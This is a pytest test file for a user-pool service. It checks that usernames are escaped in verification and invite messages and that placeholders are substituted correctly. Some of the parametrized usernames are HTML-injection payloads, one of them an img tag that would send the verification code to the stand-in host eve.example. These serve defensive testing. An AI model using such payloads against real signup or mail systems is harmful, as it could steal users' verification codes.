"""What stands in a message: the pool's words, with the name and the code in them and nothing else made of either."""

import pytest

from support.userpools import World, attribute_list
from velvetrope.delivery import plain_text_of
from velvetrope.store.tables.userpools import AdminCreateUserConfig, MessageTemplate, VerificationMessageTemplate

TEMPLATE = VerificationMessageTemplate(email_message="Dear {username}, it is {####}.", sms_message="{username}: {####}")
PASSWORD = "Correct-horse-1"


async def signed_up(world: World, name: str, **settings: object) -> tuple[str, str]:
    """What the message to somebody of that name says, and its code."""
    pool_id = await world.pool(verification_message_template=TEMPLATE, **settings)
    client_id = await world.client(pool_id)
    await world.sign_up(
        client_id=client_id,
        username=name,
        password=PASSWORD,
        user_attributes=attribute_list(email="victim@example.com", phone_number="+15555550100"),
    )
    [message] = await world.pools.outbox.messages(pool_id)
    return message.text, await world.last_code(pool_id)


@pytest.mark.parametrize(
    "name", ['<img/src="//eve.example/?{####}">', "<a/href=//eve.example>click</a>", "&amp;", '"onload="x']
)
async def test_a_name_is_no_html_in_a_mail(world: World, name: str) -> None:
    text, code = await signed_up(world, name, auto_verified_attributes=("email",))

    assert "<" not in text
    assert text.count(code) == 1
    assert plain_text_of(text) == f"Dear {name}, it is {code}."


async def test_a_name_that_looks_like_a_code_s_place_is_none(world: World) -> None:
    text, code = await signed_up(world, "{####}", auto_verified_attributes=("phone_number",))

    assert text == f"{{####}}: {code}"


async def test_a_text_message_says_the_name_as_it_is(world: World) -> None:
    text, code = await signed_up(world, "<anna&bert>", auto_verified_attributes=("phone_number",))

    assert text == f"<anna&bert>: {code}"


async def test_a_temporary_password_arrives_whole(world: World) -> None:
    pool_id = await world.pool(
        admin_create_user_config=AdminCreateUserConfig(
            invite_message_template=MessageTemplate(email_message="<p>{username}</p><p>{####}</p>")
        )
    )
    await world.admin_create_user(
        user_pool_id=pool_id,
        username="anna",
        temporary_password="Ab1<b>&amp;<i>",
        user_attributes=attribute_list(email="anna@example.com"),
        desired_delivery_mediums=("EMAIL",),
    )

    [message] = await world.pools.outbox.messages(pool_id)
    assert plain_text_of(message.text).split() == ["anna", "Ab1<b>&amp;<i>"]
